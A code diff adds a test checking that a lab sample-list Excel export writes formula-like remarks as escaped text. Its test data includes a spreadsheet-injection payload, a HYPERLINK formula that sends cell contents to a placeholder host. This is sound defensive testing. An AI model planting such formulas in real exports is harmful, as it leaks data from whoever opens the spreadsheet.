@@ -1,5 +1,6 @@
 import { endpoints, ResultCode } from '@trialab/api-contract';
 import { and, eq } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   blockedPositions,
@@ -298,5 +299,43 @@ describe.each(ENGINES)('sample list on %s', (engine) => {
     expect(response.statusCode).toBe(200);
     expect(response.headers['content-type']).toContain('spreadsheetml');
     expect(response.rawPayload.subarray(0, 2).toString()).toBe('PK');
+  });
+
+  it('writes a remark that reads as a formula as text: never a formula in the exported sheet', async () => {
+    const formula = '=HYPERLINK("http://example.invalid/?"&A2,"Click")';
+    await env.handle.db
+      .update(specimenBarcodes)
+      .set({ remark: formula })
+      .where(eq(specimenBarcodes.code, 'LIB-RCV-0010'));
+    await env.handle.db
+      .update(specimenBarcodes)
+      .set({ remark: '@SUM(1+1)' })
+      .where(eq(specimenBarcodes.code, 'LIB-RCV-0010-1'));
+    const listed = (await list(keeper, { code: 'LIB-RCV-0010' })).data as Array<Row & { remark: string }>;
+    expect(listed.find((r) => r.code === 'LIB-RCV-0010')?.remark).toBe(formula);
+    const response = await call(
+      env.app,
+      endpoints.librarySamples.export,
+      { lang: 'en_US', session: keeper, body: { code: 'LIB-RCV-0010' } },
+      env.clock.now,
+    );
+    expect(response.statusCode).toBe(200);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+    const sheet = book.worksheets[0];
+    if (!sheet) throw new Error('no sheet');
+    const header = (sheet.getRow(1).values as unknown[]).map(String);
+    const remarkColumn = header.indexOf('Remark');
+    const codeColumn = header.indexOf('Barcode');
+    expect(remarkColumn).toBeGreaterThan(0);
+    const remarks = new Map<string, unknown>();
+    sheet.eachRow((row, line) => {
+      if (line > 1) remarks.set(String(row.getCell(codeColumn).value), row.getCell(remarkColumn).value);
+    });
+    // Text with the apostrophe in front (as the statement workbook writes it), not a formula cell.
+    expect(remarks.get('LIB-RCV-0010')).toBe(`'${formula}`);
+    expect(remarks.get('LIB-RCV-0010-1')).toBe("'@SUM(1+1)");
+    // A barcode that merely contains a dash is left as it is.
+    expect(remarks.has('LIB-RCV-0010-2')).toBe(true);
   });
 });
